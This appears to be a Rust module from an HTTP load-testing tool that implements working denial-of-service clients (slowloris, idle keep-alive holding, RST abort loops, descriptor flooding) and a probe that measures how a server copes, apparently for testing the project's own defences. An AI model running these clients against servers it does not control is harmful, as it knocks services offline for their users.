//! `load --attack KIND`: hostile clients, for reproducing what
//! [`crate::conn`] defends against, against any HTTP/1.1 server.
//!
//! - `slowloris`: `-c` connections each send a request head one byte a
//!   second and never finish it;
//! - `idle`: `-c` keep-alive connections each make one request, then say
//!   nothing;
//! - `abort`: `-c` clients in a loop connect, send half a request and reset
//!   the connection (`SO_LINGER` 0);
//! - `fdflood`: `-c` connections opened as fast as possible and held without
//!   a byte, to run the server out of descriptors.
//!
//! Meanwhile a probe, a well-behaved client, asks for the URL on a fresh
//! connection every 250 ms (2 s timeout): the report says how many attack
//! connections the server closed, refused (503) or left open at the end, and
//! how the probe fared. Everything runs on one thread: the attack is I/O,
//! not CPU.

use std::time::{Duration, Instant};

use clap::ValueEnum;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::load::Target;

/// What the hostile clients do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Request heads sent one byte a second, never finished.
    Slowloris,
    /// One request per connection, then silence (keep-alive idle).
    Idle,
    /// Connect, half a request, reset; in a loop.
    Abort,
    /// Connections held open without a byte, as many as `-c`.
    Fdflood,
}

/// What happened to one held attack connection.
enum Fate {
    /// The server closed it after this long.
    Closed(Duration),
    /// The server answered 503 (over its connection cap) and closed it.
    Refused,
    /// Still open at the end.
    Open,
    /// The connect failed.
    ConnectFailed,
}

/// How the well-behaved probe fared.
#[derive(Default)]
struct Probe {
    ok: u64,
    refused: u64,
    failed: u64,
    max_latency: Duration,
}

/// Runs `attack` with `connections` clients for `duration` and prints the
/// report.
pub fn run(
    target: &Target,
    attack: Attack,
    connections: u32,
    duration: Duration,
) -> anyhow::Result<()> {
    // One descriptor per attack connection.
    let (nofile, _) = crate::sys::raise_nofile_limit()?;
    if u64::from(connections) + 64 > nofile {
        eprintln!("note: RLIMIT_NOFILE is {nofile}; some of the {connections} connections will fail to open");
    }
    eprintln!(
        "attack {attack:?} on {} with {connections} connections for {duration:?}",
        target.addr()
    );
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    let local = tokio::task::LocalSet::new();
    let start = Instant::now();
    let deadline = start + duration;
    let (fates, aborts, probe) = local.block_on(&runtime, async {
        let probe = tokio::task::spawn_local(probe(target.clone(), deadline));
        let mut aborts = 0;
        let mut fates = Vec::new();
        if attack == Attack::Abort {
            let mut clients = Vec::new();
            for _ in 0..connections {
                clients.push(tokio::task::spawn_local(abort_loop(
                    target.clone(),
                    deadline,
                )));
            }
            for c in clients {
                aborts += c.await.unwrap_or(0);
            }
        } else {
            let mut held = Vec::new();
            for _ in 0..connections {
                held.push(tokio::task::spawn_local(hold(
                    target.clone(),
                    attack,
                    start,
                    deadline,
                )));
            }
            for h in held {
                fates.push(h.await.unwrap_or(Fate::ConnectFailed));
            }
        }
        (fates, aborts, probe.await.unwrap_or_default())
    });

    let mut closed: Vec<Duration> = Vec::new();
    let (mut refused, mut open, mut failed) = (0, 0, 0);
    for fate in fates {
        match fate {
            Fate::Closed(after) => closed.push(after),
            Fate::Refused => refused += 1,
            Fate::Open => open += 1,
            Fate::ConnectFailed => failed += 1,
        }
    }
    closed.sort();
    let secs = |d: Option<&Duration>| d.map_or(f64::NAN, Duration::as_secs_f64);
    if attack == Attack::Abort {
        println!("aborted requests: {aborts}");
    } else {
        println!(
            "attack connections: {connections}, closed by the server: {} (after p50 {:.1} s, max {:.1} s), \
             refused with 503: {refused}, still open at the end: {open}, failed to connect: {failed}",
            closed.len(),
            secs(closed.get(closed.len() / 2)),
            secs(closed.last()),
        );
    }
    println!(
        "probe: {} ok, {} refused with 503, {} failed or timed out (2 s), max latency {:.1} ms",
        probe.ok,
        probe.refused,
        probe.failed,
        probe.max_latency.as_secs_f64() * 1e3
    );
    Ok(())
}

/// One held attack connection.
async fn hold(target: Target, attack: Attack, start: Instant, deadline: Instant) -> Fate {
    let deadline = tokio::time::Instant::from_std(deadline);
    let Ok(Ok(mut stream)) =
        tokio::time::timeout_at(deadline, TcpStream::connect(target.addr())).await
    else {
        return Fate::ConnectFailed;
    };
    let request = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\n",
        target.path(),
        target.host()
    );
    let mut buf = [0u8; 4096];
    match attack {
        Attack::Idle => {
            let whole = format!("{request}\r\n");
            if stream.write_all(whole.as_bytes()).await.is_err() {
                return Fate::Closed(start.elapsed());
            }
            // The answer (one small response).
            match tokio::time::timeout_at(deadline, stream.read(&mut buf)).await {
                Ok(Ok(n)) if n > 0 => {}
                Ok(_) => return Fate::Closed(start.elapsed()),
                Err(_) => return Fate::Open,
            }
        }
        Attack::Slowloris => {
            if stream.write_all(request.as_bytes()).await.is_err() {
                return Fate::Closed(start.elapsed());
            }
        }
        Attack::Fdflood | Attack::Abort => {}
    }
    let mut tick = tokio::time::interval(Duration::from_secs(1));
    tick.tick().await;
    loop {
        tokio::select! {
            read = stream.read(&mut buf) => match read {
                Ok(n) if n > 0 => {
                    if buf[..n].starts_with(b"HTTP/1.1 503") {
                        return Fate::Refused;
                    }
                }
                _ => return Fate::Closed(start.elapsed()),
            },
            _ = tick.tick(), if attack == Attack::Slowloris => {
                if stream.write_all(b"X").await.is_err() {
                    return Fate::Closed(start.elapsed());
                }
            }
            _ = tokio::time::sleep_until(deadline) => return Fate::Open,
        }
    }
}

/// Connect, half a request, reset, until the deadline; returns the count.
async fn abort_loop(target: Target, deadline: Instant) -> u64 {
    let mut count = 0;
    while Instant::now() < deadline {
        if let Ok(mut stream) = TcpStream::connect(target.addr()).await {
            let _ = stream
                .write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Half: ")
                .await;
            // SO_LINGER 0: close sends RST instead of FIN.
            let _ = stream.set_zero_linger();
            drop(stream);
            count += 1;
        } else {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
    count
}

/// A well-behaved client: a fresh connection and one request every 250 ms.
async fn probe(target: Target, deadline: Instant) -> Probe {
    let mut p = Probe::default();
    let request = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        target.path(),
        target.host()
    );
    // Let the attack get going first.
    tokio::time::sleep(Duration::from_millis(500)).await;
    while Instant::now() < deadline {
        let start = Instant::now();
        let once = async {
            let mut stream = TcpStream::connect(target.addr()).await?;
            stream.write_all(request.as_bytes()).await?;
            let mut head = [0u8; 12];
            stream.read_exact(&mut head).await?;
            std::io::Result::Ok(head)
        };
        match tokio::time::timeout(Duration::from_secs(2), once).await {
            Ok(Ok(head)) if &head == b"HTTP/1.1 200" => p.ok += 1,
            Ok(Ok(head)) if &head == b"HTTP/1.1 503" => p.refused += 1,
            _ => p.failed += 1,
        }
        p.max_latency = p.max_latency.max(start.elapsed());
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    p
}
